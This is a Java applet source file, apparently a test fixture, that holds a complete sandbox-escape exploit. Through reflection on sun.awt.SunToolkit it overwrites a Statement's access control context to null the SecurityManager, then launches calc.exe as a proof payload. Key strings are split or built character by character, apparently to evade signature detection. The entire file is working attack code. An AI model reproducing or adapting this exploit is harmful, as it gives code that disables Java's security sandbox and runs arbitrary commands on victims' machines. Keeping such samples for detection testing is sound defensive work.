package fixture.one;

import java.applet.Applet;
import java.beans.Expression;
import java.beans.Statement;
import java.lang.reflect.Field;
import java.security.AccessControlContext;
import java.security.AllPermission;
import java.security.CodeSource;
import java.security.Permissions;
import java.security.ProtectionDomain;

public class Gondvv extends Applet {
    private static final String TOOLKIT = "sun.awt." + "Sun" + "Toolkit";

    public void disableSecurity() throws Throwable {
        Statement localStatement = new Statement(System.class, "set" + "Security" + "Manager", new Object[1]);
        Permissions localPermissions = new Permissions();
        localPermissions.add(new AllPermission());
        ProtectionDomain localProtectionDomain = new ProtectionDomain(new CodeSource(null, new java.security.cert.Certificate[0]), localPermissions);
        AccessControlContext localAccessControlContext = new AccessControlContext(new ProtectionDomain[]{localProtectionDomain});
        SetField(Statement.class, "acc", localStatement, localAccessControlContext);
        localStatement.execute();
    }

    private Class GetClass(String paramString) throws Throwable {
        Object[] arrayOfObject = new Object[1];
        arrayOfObject[0] = paramString;
        Expression localExpression = new Expression(Class.class, new String(new char[]{'f', 'o', 'r', 'N', 'a', 'm', 'e'}), arrayOfObject);
        localExpression.execute();
        return (Class) localExpression.getValue();
    }

    private void SetField(Class paramClass, String paramString, Object paramObject1, Object paramObject2) throws Throwable {
        Object[] arrayOfObject = new Object[2];
        arrayOfObject[0] = paramClass;
        arrayOfObject[1] = paramString;
        Expression localExpression = new Expression(GetClass(TOOLKIT), "get" + "Field", arrayOfObject);
        localExpression.execute();
        ((Field) localExpression.getValue()).set(paramObject1, paramObject2);
    }

    public void init() {
        try {
            disableSecurity();
            Process localProcess = Runtime.getRuntime().exec(new StringBuilder().append("cal").append("c.exe").toString());
        } catch (Throwable localThrowable) {
            localThrowable.printStackTrace();
        }
    }
}
